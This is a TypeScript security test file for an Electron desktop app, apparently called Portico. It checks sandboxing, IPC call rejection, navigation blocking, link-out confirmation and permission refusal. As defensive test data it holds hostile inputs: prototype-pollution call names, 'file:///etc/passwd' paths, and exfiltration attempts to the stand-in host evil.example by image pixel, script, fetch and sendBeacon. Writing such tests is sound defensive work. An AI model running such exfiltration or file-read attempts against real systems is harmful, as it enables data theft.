/** Tries to get out of the window, in from outside of it, and at the engine from a frame that is not ours. */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type {} from '../../renderer/bridge/preload-api.ts';
import { expect, launchShell, test } from '../fixtures/shell.ts';

test('the page is served at its own address with its policy, and reaches the engine', async ({ shell }) => {
  expect(await shell.call('app.info', {})).toMatchObject({
    ok: true,
    value: { door: 'shell', keyStore: { kind: 'memory' } },
  });
  const policy = await shell.page.evaluate(
    async () => (await fetch(location.href).catch(() => null))?.status ?? 'no network',
  );
  expect(policy).toBe('no network');
  const nonce = await shell.page
    .locator('meta[property="csp-nonce"]')
    .first()
    .evaluate((meta) => (meta instanceof HTMLElement ? meta.nonce : ''));
  expect(nonce).not.toBe('');
});

test('the window shows Partners, and logs no error', async ({ home }) => {
  const shell = await launchShell({ home });
  const errors: string[] = [];
  shell.page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
  await shell.page.reload();
  await expect(shell.page.getByRole('heading', { level: 1, name: 'Partners' })).toBeVisible();
  expect(errors).toEqual([]);
  await shell.app.close();
});

test('the window is without Node', async ({ shell }) => {
  expect(
    await shell.page.evaluate(() => [typeof Reflect.get(window, 'require'), typeof Reflect.get(window, 'process')]),
  ).toEqual(['undefined', 'undefined']);
});

test('what is no call is answered as a failure, whatever it is named', async ({ shell }) => {
  for (const name of ['__proto__', '__proto__.x', 'constructor.constructor', 'app.nope', '']) {
    expect(await shell.call(name, {}), name).toMatchObject({ ok: false, failure: { code: 'input/unknown-call' } });
  }
  expect(await shell.call('app.info', { more: 1 })).toMatchObject({ ok: false, failure: { code: 'input/invalid' } });
});

for (const address of [
  'https://evil.example/',
  'http://127.0.0.1:1/',
  'app://evil/',
  'file:///etc/passwd',
  'data:text/html,evil',
]) {
  test(`the page cannot be sent to ${address}`, async ({ shell }) => {
    const addressNow = () => shell.page.evaluate(() => `${location.origin}${location.pathname}`);
    const before = await addressNow();
    await shell.page.evaluate((url) => {
      const link = document.createElement('a');
      link.href = url;
      document.body.append(link);
      link.click();
    }, address);
    expect(await shell.call('app.info', {})).toMatchObject({ ok: true });
    expect(await addressNow()).toBe(before);
  });
}

test('a link out asks with the host first; only a yes opens it, and only https', async ({ shell }) => {
  const openAll = (urls: string[]) =>
    shell.page.evaluate((all) => all.map((url) => window.open(url, '_blank') === null), urls);
  await shell.app.evaluate(({ dialog, shell: system }) => {
    const record = { asked: [] as string[], opened: [] as string[], answer: 1 };
    Object.assign(globalThis, { record });
    Object.assign(dialog, {
      showMessageBox: async (options: { message: string }) => {
        record.asked.push(options.message);
        return { response: record.answer, checkboxChecked: false };
      },
    });
    Object.assign(system, { openExternal: async (url: string) => void record.opened.push(url) });
  });
  const record = () => shell.app.evaluate(() => Reflect.get(globalThis, 'record'));

  await openAll(['https://docs.example/a']);
  await expect.poll(record).toMatchObject({ asked: ['Open docs.example in your browser?'], opened: [] });
  await shell.app.evaluate(() => void Object.assign(Reflect.get(globalThis, 'record'), { answer: 0 }));
  await openAll([
    'http://docs.example/b',
    'http://127.0.0.1:9/c',
    'file:///etc/passwd',
    'https://user:secret@docs.example/d',
    'https://docs.example/e',
  ]);
  await expect.poll(record).toMatchObject({
    asked: ['Open docs.example in your browser?', 'Open docs.example in your browser?'],
    opened: ['https://docs.example/e'],
  });
  expect(await shell.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});

test('a page that is tricked has nowhere to send anything', async ({ shell }) => {
  const outcome = await shell.page.evaluate(async () => {
    const image = new Promise<string>((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('refused');
      img.src = 'https://evil.example/pixel?secret';
    });
    const script = new Promise<string>((resolve) => {
      const element = document.createElement('script');
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('refused');
      element.src = 'https://evil.example/x.js';
      document.head.append(element);
    });
    const fetched = fetch('https://evil.example/').then(
      () => 'loaded',
      () => 'refused',
    );
    const beacon = Promise.resolve(navigator.sendBeacon('https://evil.example/', 'secret')).then(
      (sent) => (sent ? 'queued' : 'refused'),
      () => 'refused',
    );
    return { image: await image, script: await script, fetched: await fetched, beacon: await beacon };
  });
  expect(outcome).toMatchObject({ image: 'refused', script: 'refused', fetched: 'refused' });
});

test('what was set in the window is there at the next start, and events reach the page', async ({ home }) => {
  const first = await launchShell({ home });
  const event = first.page.evaluate(() => {
    return new Promise((resolve) => window.portico?.onEvent(resolve));
  });
  expect(await first.call('app.saveSettings', { theme: 'dark' })).toMatchObject({ ok: true });
  expect(await event).toMatchObject({ type: 'settings.changed' });
  await first.app.close();
  const second = await launchShell({ home });
  expect(await second.call('app.settings', {})).toMatchObject({ ok: true, value: { theme: 'dark' } });
  await second.app.close();
});

// The double shows what real Electron keeps to itself; these promises can only be asked there.
if (process.env.PORTICO_REAL_ELECTRON !== '1') {
  test('the window is sandboxed and isolated', async ({ shell }) => {
    const preferences = await shell.app.evaluate(({ BrowserWindow }) => {
      const [window] = BrowserWindow.getAllWindows();
      return window === undefined ? null : Reflect.get(window, 'options').webPreferences;
    });
    expect(preferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
      webviewTag: false,
    });
  });

  test('a call from a frame inside the page is rejected and logged', async ({ shell }) => {
    const answered = await shell.page.evaluate(async () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inside = frame.contentWindow;
      if (inside === null) return 'no frame';
      const send = Reflect.get(inside, 'electronDoubleSend');
      send(
        JSON.stringify({
          type: 'invoke',
          id: 1,
          channel: 'portico:call',
          args: [{ name: 'app.info', input: {}, callId: 'x' }],
        }),
      );
      send(JSON.stringify({ type: 'send', id: 0, channel: 'portico:cancel', args: [{ callId: 'x' }] }));
      return 'sent';
    });
    expect(answered).toBe('sent');
    const log = () => readFile(join(shell.home, 'logs', 'portico.log'), 'utf8').catch(() => '');
    await expect.poll(log).toContain('"event":"sender-refused","channel":"portico:call"');
    await expect.poll(log).toContain('"event":"sender-refused","channel":"portico:cancel"');
  });

  test('permissions are refused, asked for or only checked', async ({ shell }) => {
    const granted = await shell.app.evaluate(({ session }) => {
      const kept = session.fromPartition('portico');
      const request = Reflect.get(kept, 'permissionRequest');
      const check = Reflect.get(kept, 'permissionCheck');
      const device = Reflect.get(kept, 'devicePermission');
      const asked: string[] = [];
      for (const permission of [
        'media',
        'geolocation',
        'notifications',
        'midi',
        'openExternal',
        'fullscreen',
        'clipboard-read',
        'clipboard-sanitized-write',
      ]) {
        for (const requestingUrl of ['app://portico/', 'https://evil.example/']) {
          request(null, permission, (yes: boolean) => yes && asked.push(`${permission} ${requestingUrl}`), {
            requestingUrl,
          });
          if (check(null, permission, requestingUrl)) asked.push(`check ${permission} ${requestingUrl}`);
        }
      }
      return { asked, device: device(), spellChecker: Reflect.get(kept, 'spellChecker') };
    });
    expect(granted).toEqual({
      asked: ['clipboard-sanitized-write app://portico/', 'check clipboard-sanitized-write app://portico/'],
      device: false,
      spellChecker: false,
    });
  });

  test('a system that only obscures secrets is refused in words; a key store seals them', async ({ home }) => {
    const plain = await launchShell({ home });
    expect(await plain.call('app.info', {})).toMatchObject({
      value: { keyStore: { kind: 'memory', note: expect.stringContaining('no key store that protects secrets') } },
    });
    await plain.app.close();
    const sealed = await launchShell({ home, env: { PORTICO_DOUBLE_KEY_STORE: 'gnome_libsecret' } });
    expect(await sealed.call('app.info', {})).toMatchObject({ value: { keyStore: { kind: 'system' } } });
    await sealed.app.close();
  });
}
